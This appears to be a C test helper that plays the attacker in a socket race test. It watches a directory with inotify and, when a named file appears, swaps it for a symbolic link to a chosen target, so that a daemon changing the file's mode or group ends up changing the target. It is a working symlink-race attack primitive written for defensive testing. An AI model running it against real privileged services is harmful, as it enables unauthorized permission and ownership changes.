/*
 * The attacker of test/socket-race.test.ts: as soon as NAME appears in DIR (created or renamed in),
 * move it away and put a symbolic link to TARGET in its place, so that a daemon that changes the
 * file's mode or group by name afterwards changes TARGET instead. Exits after the swap, or after
 * SECONDS.
 * Usage: racer DIR NAME TARGET SECONDS
 */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 5) {
    fprintf(stderr, "usage: racer DIR NAME TARGET SECONDS\n");
    return 2;
  }
  const char *dir = argv[1], *name = argv[2], *target = argv[3];
  char path[PATH_MAX], moved[PATH_MAX];
  snprintf(path, sizeof path, "%s/%s", dir, name);
  snprintf(moved, sizeof moved, "%s/%s.moved", dir, name);
  alarm((unsigned)atoi(argv[4]));
  int fd = inotify_init();
  if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE | IN_MOVED_TO) < 0) {
    perror("inotify");
    return 2;
  }
  printf("watching\n");
  fflush(stdout);
  char buf[4096] __attribute__((aligned(8)));
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) return 1;
    for (char *p = buf; p < buf + n;) {
      struct inotify_event *ev = (struct inotify_event *)p;
      if (ev->len && strcmp(ev->name, name) == 0 && rename(path, moved) == 0 &&
          symlink(target, path) == 0) {
        printf("swapped\n");
        return 0;
      }
      p += sizeof *ev + ev->len;
    }
  }
}
